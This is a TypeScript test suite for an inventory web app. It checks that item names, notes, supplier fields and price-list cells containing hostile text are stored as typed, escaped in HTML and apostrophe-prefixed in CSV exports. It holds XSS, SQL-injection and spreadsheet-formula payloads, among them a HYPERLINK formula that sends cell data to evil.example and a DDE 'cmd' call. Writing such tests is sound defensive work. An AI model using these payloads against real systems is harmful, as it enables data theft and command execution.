/**
 * Hostile text in item names, notes, suppliers, designs and price-list cells:
 * HTML and script, SQL fragments and spreadsheet formulas. Each is stored as
 * the text typed, shown escaped on the pages (no new element in the HTML, not
 * even inside React Router's hydration data), returned unchanged as JSON, and
 * neutralised with a leading apostrophe in every CSV export: the stock list,
 * a design's BOM and a supplier's purchase request.
 */
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { baseUrl, get, sendJson, signInAs } from "../support/app-client";
import {
  closeTestDatabase,
  createLocation,
  testDatabase,
  uniqueCode,
} from "../support/test-database";

const script = "<script>alert(1)</script>";
const attribute = `"><img src=x onerror=alert(1)>`;
const sql = "'; DROP TABLE items; --";
const hostile = `${script} ${attribute} ${sql}`;
/** Text a spreadsheet would run: one per formula prefix. */
const formulas = [
  `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
];

let buyer = "";
let builder = "";
let storekeeper = "";
let manager = "";
let location = "";
beforeAll(async () => {
  buyer = await signInAs("buyer");
  builder = await signInAs("builder");
  storekeeper = await signInAs("storekeeper");
  manager = await signInAs("manager");
  location = await createLocation(uniqueCode("SEC"));
});
afterAll(closeTestDatabase);

/** The text as React writes it into HTML. */
function escaped(text: string): string {
  return text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#x27;");
}

/** A page's HTML, with React's markers between adjacent text pieces removed. */
async function pageHtml(path: string, cookie: string): Promise<string> {
  const response = await get(path, cookie);
  expect(response.status, path).toBe(200);
  expect(response.headers.get("Content-Type")).toMatch(/^text\/html/);
  return (await response.text()).replace(/<!-- -->/g, "");
}

const tagPattern =
  /<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
const attributePattern =
  /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/** The start tags of a document: element names and attributes (quoted values kept whole). */
function startTags(html: string) {
  return [...html.matchAll(tagPattern)].map((tag) => ({
    name: tag[1]!.toLowerCase(),
    attributes: new Map(
      [...tag[2]!.matchAll(attributePattern)].map((attribute) => [
        attribute[1]!.toLowerCase(),
        attribute[2] ?? attribute[3] ?? attribute[4] ?? "",
      ]),
    ),
  }));
}

/** No element came out of the hostile text anywhere in the document, hydration data included. */
function expectNoInjectedElement(html: string) {
  expect(html).not.toContain("<script>alert(1)");
  const tags = startTags(html);
  expect(tags.length).toBeGreaterThan(20);
  for (const tag of tags) {
    const handlers = [...tag.attributes.keys()].filter((name) =>
      name.startsWith("on"),
    );
    expect(handlers, `<${tag.name}> with ${handlers.join(", ")}`).toEqual([]);
    if (tag.name === "img") expect(tag.attributes.get("src")).not.toBe("x");
    // Every script element is one of React Router's, carrying the CSP nonce.
    if (tag.name === "script") expect(tag.attributes.get("nonce")).toBeTruthy();
  }
}

async function createPart(sku: string, name: string, reorderPoint = 0) {
  const response = await sendJson(
    "POST",
    "/api/v1/items",
    { kind: "part", sku, name, unit: "pcs", reorderPoint, reorderQuantity: 10 },
    buyer,
  );
  expect(response.status, await response.clone().text()).toBe(201);
}

async function receive(sku: string, quantity: number, extra = {}) {
  const response = await sendJson(
    "POST",
    "/api/v1/stock-movements",
    { type: "receipt", sku, location, quantity, unitCost: 1.5, ...extra },
    storekeeper,
  );
  expect(response.status, await response.clone().text()).toBe(201);
}

async function single<T>(query: string, values: unknown[]): Promise<T> {
  const [rows] = await testDatabase().query(query, values);
  return (rows as T[])[0]!;
}

/** A CSV answer's rows by header; the text is read with its byte-order mark kept. */
async function parseCsv(response: Response): Promise<Record<string, string>[]> {
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(
    await response.arrayBuffer(),
  );
  expect(text.startsWith("\uFEFF")).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function expectCsvDownload(response: Response) {
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toMatch(/^text\/csv/);
  expect(response.headers.get("Content-Disposition")).toMatch(
    /^attachment; filename="[A-Za-z0-9._-]+\.csv"$/,
  );
  expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
}

describe("an item name and a movement note with HTML, script and SQL", () => {
  const sku = uniqueCode("INJ");

  beforeAll(async () => {
    await createPart(sku, hostile);
    await receive(sku, 3, { note: hostile, reference: attribute });
  });

  it("are stored as the text typed, and the tables are all there", async () => {
    const item = await single<{ name: string }>(
      "SELECT name FROM items WHERE sku = ?",
      [sku],
    );
    expect(item.name).toBe(hostile);
    const movement = await single<{ note: string; reference: string }>(
      "SELECT m.note, m.reference FROM stock_movements m JOIN items i ON i.id = m.item_id WHERE i.sku = ?",
      [sku],
    );
    expect(movement).toEqual({ note: hostile, reference: attribute });
    const items = await single<{ n: number }>(
      "SELECT COUNT(*) AS n FROM items",
      [],
    );
    expect(Number(items.n)).toBeGreaterThan(1);
  });

  it("come back unchanged as JSON", async () => {
    const response = await get(`/api/v1/items/${sku}`, manager);
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(((await response.json()) as { name: string }).name).toBe(hostile);
  });

  it("are shown escaped on the item page, the stock list and the journal", async () => {
    for (const path of [
      `/stock/items/${sku}`,
      `/stock?search=${sku}`,
      "/stock/journal",
    ]) {
      const html = await pageHtml(path, manager);
      expect(html, path).toContain(escaped(hostile));
      expectNoInjectedElement(html);
    }
    const itemPage = await pageHtml(`/stock/items/${sku}`, manager);
    expect(itemPage).toContain(escaped(attribute));
  });

  it("in a search are shown escaped, and an SQL fragment only finds what it says", async () => {
    const reflected = await pageHtml(
      `/stock?search=${encodeURIComponent(attribute)}`,
      manager,
    );
    expectNoInjectedElement(reflected);
    const bySql = await get(
      `/api/v1/items?search=${encodeURIComponent(sql)}`,
      manager,
    );
    expect(bySql.status).toBe(200);
    const found = (await bySql.json()) as { items: { sku: string }[] };
    expect(found.items.map((item) => item.sku)).toContain(sku);
    const always = await get(
      `/api/v1/items?search=${encodeURIComponent("' OR '1'='1")}`,
      manager,
    );
    expect(always.status).toBe(200);
    expect(((await always.json()) as { total: number }).total).toBe(0);
  });
});

describe("the stock CSV export", () => {
  const prefix = uniqueCode("FX");

  beforeAll(async () => {
    for (const [index, formula] of formulas.entries())
      await createPart(`${prefix}-${index + 1}`, formula);
    await createPart(`${prefix}-9`, hostile);
  });

  it("starts formula-like text with an apostrophe and keeps other text as typed", async () => {
    const response = await get(`/stock/export.csv?search=${prefix}`, manager);
    expectCsvDownload(response);
    const rows = await parseCsv(response);
    const names = new Map(rows.map((row) => [row.sku, row.name]));
    expect([...names.keys()].sort()).toEqual([
      ...formulas.map((_, index) => `${prefix}-${index + 1}`),
      `${prefix}-9`,
    ]);
    for (const [index, formula] of formulas.entries())
      expect(names.get(`${prefix}-${index + 1}`)).toBe(`'${formula}`);
    expect(names.get(`${prefix}-9`)).toBe(hostile);
    // No cell of the file starts a formula.
    for (const row of rows)
      for (const cell of Object.values(row))
        expect(cell).not.toMatch(/^[=+@]|^-[^0-9]/);
  });
});

describe("a design's BOM CSV", () => {
  const prefix = uniqueCode("BX");
  let designId = 0;

  beforeAll(async () => {
    for (const [index, formula] of formulas.entries())
      await createPart(`${prefix}-${index + 1}`, formula);
    const created = await sendJson(
      "POST",
      "/api/v1/designs",
      {
        name: `${formulas[0]} ${uniqueCode("D")}`,
        description: hostile,
        motorType: attribute.slice(0, 60),
        notes: hostile,
        poles: 14,
        slots: 12,
        ratedCurrentA: 10,
        torqueBasis: "estimated",
        insulationClassC: 155,
      },
      builder,
    );
    expect(created.status, await created.clone().text()).toBe(201);
    designId = ((await created.json()) as { id: number }).id;
    const lines = await sendJson(
      "PUT",
      `/api/v1/designs/${designId}/revisions/1`,
      {
        lines: formulas.map((_, index) => ({
          kind: "part",
          sku: `${prefix}-${index + 1}`,
          quantityPerMotor: 1,
        })),
      },
      builder,
    );
    expect(lines.status, await lines.clone().text()).toBe(200);
  });

  it("stores the design's texts as typed and shows them escaped", async () => {
    const design = await single<{
      name: string;
      description: string;
      notes: string;
    }>(
      "SELECT d.name, d.description, r.notes FROM designs d JOIN design_revisions r ON r.design_id = d.id WHERE d.id = ?",
      [designId],
    );
    expect(design.name.startsWith(formulas[0]!)).toBe(true);
    expect(design.description).toBe(hostile);
    expect(design.notes).toBe(hostile);
    for (const path of [
      `/designs/${designId}/revisions/1`,
      `/designs/${designId}/revisions/1/print`,
    ]) {
      const html = await pageHtml(path, manager);
      expect(html, path).toContain(escaped(formulas[0]!));
      expectNoInjectedElement(html);
    }
    const page = await pageHtml(`/designs/${designId}/revisions/1`, manager);
    expect(page).toContain(escaped(hostile));
  });

  it("starts formula-like item names with an apostrophe, with a plain file name", async () => {
    const response = await get(
      `/designs/${designId}/revisions/1/bom.csv?quantity=3`,
      manager,
    );
    expectCsvDownload(response);
    const rows = await parseCsv(response);
    expect(rows.map((row) => row.item)).toEqual(
      formulas.map((formula) => `'${formula}`),
    );
  });
});

describe("a supplier's purchase request CSV", () => {
  const supplier = `${script} ${uniqueCode("S")}`;
  const supplierSkus = [formulas[0]!, "@SUPPLIER-SKU", attribute];
  const descriptions = [formulas[1]!, formulas[3]!, hostile];
  const ourSkus: string[] = [];

  beforeAll(async () => {
    const created = await sendJson(
      "POST",
      "/api/v1/suppliers",
      { name: supplier, currency: "EUR", notes: hostile },
      buyer,
    );
    expect(created.status, await created.clone().text()).toBe(201);

    // The supplier's price list: hostile SKUs and descriptions, CSV-quoted.
    const csv = Papa.unparse({
      fields: [
        "Art. no",
        "Description",
        "Price",
        "Currency",
        "Min qty",
        "Valid from",
      ],
      data: supplierSkus.map((supplierSku, index) => [
        supplierSku,
        descriptions[index],
        "2.50",
        "EUR",
        "1",
        "2026-01-01",
      ]),
    });
    const form = new FormData();
    form.set("file", new Blob([csv], { type: "text/csv" }), "prices.csv");
    form.set("supplier", supplier);
    form.set(
      "mapping",
      JSON.stringify({
        supplierSku: "Art. no",
        description: "Description",
        price: "Price",
        currency: "Currency",
        minQuantity: "Min qty",
        validFrom: "Valid from",
      }),
    );
    const imported = await fetch(`${baseUrl()}/api/v1/price-lists`, {
      method: "POST",
      headers: { Cookie: buyer, Origin: baseUrl() },
      body: form,
    });
    expect(imported.status, await imported.clone().text()).toBe(201);

    // Each new item falls below its reorder point: an open alert the supplier quotes.
    for (const supplierSku of supplierSkus) {
      const { sku } = await single<{ sku: string }>(
        "SELECT i.sku FROM supplier_items si JOIN items i ON i.id = si.item_id JOIN suppliers s ON s.id = si.supplier_id WHERE s.name = ? AND si.supplier_sku = ?",
        [supplier, supplierSku],
      );
      ourSkus.push(sku);
      const reorder = await sendJson(
        "PATCH",
        `/api/v1/items/${encodeURIComponent(sku)}`,
        { reorderPoint: 5, reorderQuantity: 10 },
        buyer,
      );
      expect(reorder.status, await reorder.clone().text()).toBe(200);
      await receive(sku, 1);
    }
  });

  it("stores the price list's cells as typed", async () => {
    for (const [index, supplierSku] of supplierSkus.entries()) {
      const row = await single<{ name: string; price_sku: string }>(
        "SELECT i.name, p.supplier_sku AS price_sku FROM price_lines p JOIN items i ON i.id = p.item_id JOIN suppliers s ON s.id = p.supplier_id WHERE s.name = ? AND p.supplier_sku = ?",
        [supplier, supplierSku],
      );
      expect(row).toEqual({
        name: descriptions[index],
        price_sku: supplierSku,
      });
    }
  });

  it("shows the supplier, its SKUs and the items escaped on the alerts and suppliers pages", async () => {
    const alerts = await pageHtml("/alerts", buyer);
    expect(alerts).toContain(escaped(supplier));
    expect(alerts).toContain(escaped(hostile));
    expectNoInjectedElement(alerts);
    const suppliers = await pageHtml("/suppliers", buyer);
    expect(suppliers).toContain(escaped(supplier));
    expectNoInjectedElement(suppliers);
  });

  it("starts formula-like descriptions and supplier SKUs with an apostrophe", async () => {
    const response = await get(
      `/alerts/purchase-request.csv?supplier=${encodeURIComponent(supplier)}`,
      buyer,
    );
    expectCsvDownload(response);
    const rows = await parseCsv(response);
    const bySku = new Map(rows.map((row) => [row.our_sku, row]));
    expect([...bySku.keys()].sort()).toEqual([...ourSkus].sort());
    expect(bySku.get(ourSkus[0]!)).toMatchObject({
      description: `'${formulas[1]}`,
      supplier_sku: `'${formulas[0]}`,
    });
    expect(bySku.get(ourSkus[1]!)).toMatchObject({
      description: `'${formulas[3]}`,
      supplier_sku: "'@SUPPLIER-SKU",
    });
    expect(bySku.get(ourSkus[2]!)).toMatchObject({
      description: hostile,
      supplier_sku: attribute,
    });
  });

  it("names an unknown supplier back as JSON, never as HTML", async () => {
    const response = await get(
      `/alerts/purchase-request.csv?supplier=${encodeURIComponent(attribute)}`,
      buyer,
    );
    expect(response.status).toBe(404);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(((await response.json()) as { message: string }).message).toBe(
      `No item with an open alert is quoted by "${attribute}".`,
    );
  });
});
